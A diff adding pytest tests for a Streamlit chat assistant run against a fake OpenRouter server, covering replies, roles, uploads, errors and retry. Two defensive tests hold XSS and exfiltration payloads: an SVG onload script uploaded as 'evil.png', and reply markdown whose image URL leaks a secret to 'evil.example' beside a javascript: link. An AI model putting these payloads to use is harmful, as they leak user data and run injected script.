@@ -1,0 +1,203 @@
+"""The chat page driven through Streamlit's AppTest against the fake OpenRouter server."""
+
+from __future__ import annotations
+
+import io
+from collections.abc import Iterator
+
+import pytest
+from PIL import Image
+from streamlit.testing.v1 import AppTest
+
+from assistant.roles import builtin_roles
+from tests.fake_openrouter import (
+    TEXT_MODEL,
+    VISION_MODEL,
+    FakeOpenRouter,
+    http_error,
+    midstream_error,
+    reasoning_reply,
+)
+from ui import state
+
+APP = "../app.py"
+
+
+@pytest.fixture
+def fake() -> Iterator[FakeOpenRouter]:
+    with FakeOpenRouter() as server:
+        yield server
+
+
+@pytest.fixture
+def app(fake: FakeOpenRouter, monkeypatch: pytest.MonkeyPatch) -> AppTest:
+    monkeypatch.setenv("OPENROUTER_API_KEY", "sk-or-v1-test")
+    monkeypatch.setenv("OPENROUTER_BASE_URL", fake.url)
+    monkeypatch.setenv("OPENROUTER_FALLBACK_MODELS", "")
+    monkeypatch.setenv("ASSISTANT_MAX_RETRIES", "0")
+    at = AppTest.from_file(APP, default_timeout=20)
+    at.run()
+    assert not at.exception
+    return at
+
+
+def bubble_text(at: AppTest, index: int) -> str:
+    return "\n".join(md.value for md in at.chat_message[index].markdown)
+
+
+def send(at: AppTest, text: str) -> AppTest:
+    at.chat_input[0].set_value(text).run()
+    assert not at.exception, at.exception
+    return at
+
+
+def png_bytes(color: str = "red", size: tuple[int, int] = (64, 48)) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, color).save(out, "PNG")
+    return out.getvalue()
+
+
+def test_a_message_gets_a_streamed_reply(app: AppTest) -> None:
+    send(app, "My phone battery drains fast")
+    assert bubble_text(app, 0) == "My phone battery drains fast"
+    assert bubble_text(app, 1) == "Echo: My phone battery drains fast"
+    footer = " ".join(c.value for c in app.chat_message[1].caption)
+    assert TEXT_MODEL in footer and " in · " in footer
+
+
+def test_the_role_and_model_are_always_shown(app: AppTest) -> None:
+    assert app.title[0].value == builtin_roles()["gadget"].label
+    assert TEXT_MODEL in app.chat_input[0].placeholder
+
+
+def test_switching_role_changes_the_system_prompt(app: AppTest, fake: FakeOpenRouter) -> None:
+    app.selectbox(key=state.ROLE_ID).set_value("legal").run()
+    send(app, "Can my employer read my email?")
+    system = fake.chat_requests[-1].json["messages"][0]
+    assert system == {"role": "system", "content": builtin_roles()["legal"].system_prompt}
+    assert any("not legal advice" in info.value for info in app.info)
+
+
+def test_healthcare_role_shows_its_notice(app: AppTest) -> None:
+    app.selectbox(key=state.ROLE_ID).set_value("healthcare").run()
+    assert any("not a diagnosis" in info.value for info in app.info)
+
+
+def test_an_image_reaches_a_vision_model_as_a_content_part(
+    app: AppTest, fake: FakeOpenRouter
+) -> None:
+    app.chat_input[0].upload("broken.png", png_bytes(), "image/png").set_value("What is this?")
+    app.run()
+    assert not app.exception
+    assert len(app.chat_message[0].get("image")) == 1  # shown inline in the user's bubble
+    request = fake.chat_requests[-1].json
+    assert request["model"] == VISION_MODEL  # the default DeepSeek model is text-only
+    parts = request["messages"][-1]["content"]
+    assert parts[0] == {"type": "text", "text": "What is this?"}
+    assert parts[1]["image_url"]["url"].startswith("data:image/")
+    footer = " ".join(c.value for c in app.chat_message[1].caption)
+    assert VISION_MODEL in footer and "reads images" in footer
+
+
+def test_a_file_that_is_not_an_image_is_refused_and_the_text_still_sent(
+    app: AppTest, fake: FakeOpenRouter
+) -> None:
+    app.chat_input[0].upload("evil.png", b"<svg onload=alert(1)>", "image/png")
+    app.chat_input[0].set_value("hello").run()
+    assert any("evil.png was not attached" in w.value for w in app.warning)
+    assert bubble_text(app, 1) == "Echo: hello"
+    assert fake.chat_requests[-1].json["messages"][-1]["content"] == "hello"
+
+
+@pytest.mark.parametrize(
+    ("status", "expected"),
+    [
+        (401, "OPENROUTER_API_KEY"),
+        (402, "credits"),
+        (403, "flagged"),
+        (429, "busy"),
+        (503, "unavailable"),
+    ],
+)
+def test_each_error_shows_its_sentence_and_keeps_the_message(
+    app: AppTest, fake: FakeOpenRouter, status: int, expected: str
+) -> None:
+    fake.queue(http_error(status))
+    send(app, "please help")
+    assert bubble_text(app, 0) == "please help"
+    errors = [e.value for e in app.chat_message[1].error]
+    assert errors and expected in errors[0]
+    assert "Traceback" not in errors[0]
+    assert [b.label for b in app.button if b.key == "retry"] == ["Retry"]
+
+
+def test_retry_after_an_error_sends_the_same_message_again(
+    app: AppTest, fake: FakeOpenRouter
+) -> None:
+    fake.queue(http_error(503))
+    send(app, "try me")
+    app.button(key="retry").click().run()
+    assert bubble_text(app, 1) == "Echo: try me"
+    assert len(app.chat_message) == 2
+
+
+def test_a_midstream_error_keeps_the_partial_reply(app: AppTest, fake: FakeOpenRouter) -> None:
+    fake.queue(midstream_error())
+    send(app, "one two three four")
+    assert bubble_text(app, 1)  # what arrived is still there
+    assert app.chat_message[1].error
+
+
+def test_reasoning_goes_in_a_collapsed_expander_not_the_answer(
+    app: AppTest, fake: FakeOpenRouter
+) -> None:
+    fake.queue(reasoning_reply("I should count.", "It is 42."))
+    send(app, "what is six times seven?")
+    reply = app.chat_message[1]
+    assert reply.expander[0].label == "Reasoning"
+    assert "count" in "\n".join(m.value for m in reply.expander[0].markdown)
+    assert "count" not in "\n".join(m.value for m in reply.markdown if m not in reply.expander[0].markdown)
+
+
+def test_regenerate_replaces_the_last_reply(app: AppTest, fake: FakeOpenRouter) -> None:
+    send(app, "first")
+    app.button(key="regenerate").click().run()
+    assert len(app.chat_message) == 2
+    assert len(fake.chat_requests) == 2
+
+
+def test_edit_and_resend_replaces_the_last_message(app: AppTest, fake: FakeOpenRouter) -> None:
+    send(app, "frist")
+    app.button(key="edit").click().run()
+    app.text_area(key=state.EDITED_TEXT).set_value("first")
+    app.button[[b.label for b in app.button].index("Send")].click().run()
+    assert bubble_text(app, 0) == "first"
+    assert bubble_text(app, 1) == "Echo: first"
+    assert len(app.chat_message) == 2
+
+
+def test_starter_questions_send_a_message(app: AppTest) -> None:
+    starter = builtin_roles()["gadget"].starters[0]
+    app.button(key="starter_0").click().run()
+    assert bubble_text(app, 0) == starter
+
+
+def test_dangerous_markdown_in_a_reply_is_neutralised(app: AppTest, fake: FakeOpenRouter) -> None:
+    from tests.fake_openrouter import reply
+
+    fake.queue(reply("See ![x](https://evil.example/p?d=secret) and [y](javascript:alert(1))"))
+    send(app, "hi")
+    text = bubble_text(app, 1)
+    assert "![x]" not in text and "javascript:" not in text
+
+
+def test_long_chats_hide_older_turns(app: AppTest) -> None:
+    from ui.state import ChatMessage
+
+    app.session_state[state.MESSAGES] = [
+        ChatMessage("user" if i % 2 == 0 else "assistant", f"m{i}") for i in range(100)
+    ]
+    app.run()
+    assert len(app.chat_message) == state.VISIBLE_MESSAGES
+    app.button(key="show_earlier_button").click().run()
+    assert len(app.chat_message) == 2 * state.VISIBLE_MESSAGES
